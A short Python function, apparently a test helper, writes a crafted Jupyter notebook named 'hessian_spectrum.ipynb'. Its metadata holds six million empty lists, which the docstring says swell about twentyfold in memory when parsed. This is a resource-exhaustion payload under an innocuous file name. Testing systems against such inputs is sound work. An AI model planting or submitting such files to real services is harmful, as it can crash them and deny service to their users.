"""Hands in six million empty lists, of which each takes twenty times as much memory as space in the file."""


def upload(folder, notebook):
    cell = '{"cell_type": "code", "source": "", "metadata": [%s]}' % ",".join(["[]"] * 6_000_000)
    (folder / "hessian_spectrum.ipynb").write_text('{"nbformat": 4, "nbformat_minor": 9, "cells": [%s]}' % cell)
